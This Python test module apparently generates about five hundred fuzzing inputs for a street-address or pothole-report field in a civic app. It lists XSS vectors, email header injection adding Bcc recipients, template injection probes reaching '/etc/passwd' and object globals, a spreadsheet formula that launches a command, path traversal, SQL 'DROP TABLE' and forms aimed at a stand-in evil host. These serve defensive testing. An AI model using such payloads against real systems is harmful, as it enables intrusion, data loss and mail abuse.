"""Five hundred texts that would like to be more than text: tags, links, headers, templates."""

from __future__ import annotations

from collections.abc import Iterator

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b>",
    "</td></table>",
    "<a href='https://evil.example'>here</a>",
    '"><svg onload=alert(1)>',
    "' onmouseover='a()",
    "<iframe src=//evil.example>",
    "<style>*{display:none}</style>",
    "</title><script>x</script>",
    "<!-- -->",
    "<![CDATA[x]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<form action=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<link rel=stylesheet>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>x</script>",
    "javascript:alert(1)",
    "data:text/html,<script>x</script>",
    "<script",
    "\\u003cscript\\u003e",
    "\uff1cscript\uff1e",
)
HEADERS = (
    "\r\nBcc: eve@evil.example",
    "\nBcc: eve@evil.example",
    "\rBcc: eve@evil.example",
    "\r\n\r\n<script>x</script>",
    "%0d%0aBcc: eve@evil.example",
    "\u2028Bcc: eve@evil.example",
    "\u2029Bcc: eve@evil.example",
    "\x0bBcc: eve@evil.example",
    "\x85Bcc: eve@evil.example",
    "\r\n Bcc: eve@evil.example",
    "=?utf-8?q?=0d=0aBcc:_eve=40evil.example?=",
    "\x00Bcc: eve@evil.example",
    "\r\n.\r\nMAIL FROM:<eve@evil.example>",
)
TEMPLATES = (
    "{{7*7}}", "{% include '/etc/passwd' %}", "{link}", "{0}", "{city.__class__}", "%s%n", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{self.__init__.__globals__}}",
)  # fmt: skip
CHARACTERS = (
    "\u202eelpmaxe.live", "\u200b\u200b", "\ufeff", "\x1b[31mred", "\x07", "a\u0300" * 40,
    "\U0001f4a9" * 20, "x" * 900, "\ud7ff\ue000", "=cmd|' /C calc'!A0", "../../etc/passwd",
    "'; DROP TABLE residents; --", "<@U123> <!channel>", "*bold* _it_", "https://evil.example/login",
)  # fmt: skip
SEEDS = (*MARKUP, *HEADERS, *TEMPLATES, *CHARACTERS)


def payloads() -> Iterator[str]:
    """Yield the texts: each bare, in front, behind, in the middle, twice, in capitals, and more."""
    for seed in SEEDS:
        yield seed
        yield f"{seed} Main Street"
        yield f"Main Street {seed}"
        yield f"Main {seed} Street"
        yield f"{seed}{seed}"
        yield f'"{seed}"'
        yield f"pothole {seed.swapcase()}"
        yield f"1. {seed}\n2. {seed}"
